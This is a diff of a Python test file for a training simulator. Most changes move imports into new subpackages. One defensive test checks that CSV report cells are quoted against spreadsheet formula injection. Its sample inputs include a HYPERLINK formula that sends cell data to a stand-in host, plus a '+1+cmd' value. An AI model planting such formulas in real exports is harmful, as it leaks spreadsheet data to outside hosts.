@@ -13,10 +13,10 @@ from collections import Counter
 import pytest
 
 from scoring.scorer import score
-from simulator.engine import Play
-from simulator.loader import load
-from simulator.store import Store
-from simulator.xapi import duration, statements
+from simulator.play.engine import Play
+from simulator.format.loader import load
+from simulator.results.store import Store
+from simulator.results.xapi import duration, statements
 
 from conftest import FIXTURES, run_cli
 
@@ -185,7 +185,7 @@ def test_xapi_activity_base_is_the_consultants_own(filled):
 
 
 def test_push_queues_statements_under_the_given_base(tmp_path, sweater):
-    from simulator.push import queue
+    from simulator.results.push import queue
     db = tmp_path / "q.db"
     base = "https://lms.client.example/litige"
     with Store.open(db) as store:
@@ -319,7 +319,7 @@ def test_report_of_the_shipped_stories_fits_80_columns(tmp_path):
 def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path):
     """OWASP's CSV injection advice: text starting with = + - @ tab or CR gets a leading quote
     (a trainee named =HYPERLINK(...) used to be written as it was); numbers stay numbers."""
-    from simulator.reports import csv_cell
+    from simulator.results.reports import csv_cell
     db = str(tmp_path / "r.db")
     evil = '=HYPERLINK("http://x/?"&A1,"click")'
     names = (evil, "+1+cmd", "-2+3", "@SUM(A1)", "Ana-Marie", "=")
@@ -475,7 +475,7 @@ def test_trainee_is_matched_on_a_names_start_case_and_accents_aside(days):
 
 
 def test_names_matching_rule():
-    from simulator.store import match_names, name_key
+    from simulator.results.store import match_names, name_key
     names = ["Ana", "Ana Dupont", "Anaïs", "Chloé", "CHLOE B", "Ben"]
     assert match_names("ana", names) == ["Ana"]                       # the name itself wins
     assert match_names("ana ", names) == ["Ana"]
@@ -485,14 +485,14 @@ def test_names_matching_rule():
     assert match_names("chl", names) == ["Chloé", "CHLOE B"]
     assert match_names("", names) == [] and match_names("Zed", names) == []
     assert name_key("Chlo\u0065\u0301") == name_key("Chlo\u00e9") == "chloe"  # decomposed or composed é
-    from simulator.reports import matched_line
+    from simulator.results.reports import matched_line
     many = [f"Trainee {i:02d}" for i in range(12)]
     line = matched_line("trainee", many, "en")  # the count, then the first ten names: one line, not 120
     assert line.startswith("12 trainees match “trainee”: Trainee 00, ") and line.endswith("Trainee 09, …")
 
 
 def test_plural_rule_and_language_precedence(monkeypatch):
-    from simulator.i18n import plural_one, resolve_lang, t
+    from simulator.lang.i18n import plural_one, resolve_lang, t
     assert [plural_one(n, "fr") for n in (0, 1, 1.5, 2)] == [True, True, True, False]
     assert [plural_one(n, "en") for n in (0, 1, 2)] == [False, True, False]
     assert t("results.report.summary", "fr", plays=1, trainees=2, unfinished=0) == \
